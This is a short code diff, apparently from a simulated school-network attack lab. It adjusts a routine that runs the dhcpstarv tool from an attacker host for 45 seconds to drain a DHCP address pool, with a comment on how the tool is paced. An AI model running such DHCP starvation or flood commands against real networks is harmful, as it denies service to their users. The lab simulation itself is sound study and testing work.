@@ -390,13 +390,15 @@ icmp_flood = _hping_flood("icmp_flood", "flood", ["--icmp"], "ICMP echo flood", 
 
 def dhcp_starvation(lan: SchoolLan, small: bool = False) -> Outcome:
     a = lan.attacker
-    args = ["-i", IF, "-e", lan.srv.ip]
-    out = _bounded(lan, a.ns, 6, "dhcpstarv", *args)
+    args = ["-i", IF]
+    # dhcpstarv takes one lease at a time, and dnsmasq pings each address before offering
+    # it (3 s): 45 s asks for about fifteen client MACs.
+    out = _bounded(lan, a.ns, 45, "dhcpstarv", *args)
     return Outcome(
         "dhcp_starvation",
         ("dhcp_starvation",),
-        "timeout 6 dhcpstarv " + " ".join(args),
-        "dhcpstarv: DISCOVERs and REQUESTs for random client MACs until the pool is empty",
+        "timeout 45 dhcpstarv " + " ".join(args),
+        "dhcpstarv: DISCOVERs and REQUESTs for random client MACs, one lease at a time",
         a,
         "dhcpstarv",
         notes={"output_tail": out[-300:]},
